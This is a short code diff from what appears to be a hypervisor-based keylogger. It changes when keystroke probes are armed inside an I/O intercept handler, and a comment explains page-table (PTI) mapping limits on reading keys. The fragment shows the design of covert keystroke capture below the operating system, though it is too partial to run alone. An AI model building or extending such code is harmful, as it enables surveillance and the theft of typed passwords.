@@ -252,8 +252,12 @@ static int keylogger_io(struct vcpu *v, struct hv_icpt *x, void *ctx)
 			if (raw) {
 				raw_seq = ks.next_seq - 1;
 				io_raw_keys++;
+			} else {
+				/* only the driver's bytes open a window: a key read past the driver never
+				 * reaches a read() (and a CPL-3 reader's exit runs on its user CR3, which
+				 * under PTI does not map the probe sites: placing failed once per key) */
+				arm(t0);
 			}
-			arm(t0);
 		}
 	}
 	hv_spin_unlock(&kl_lock);
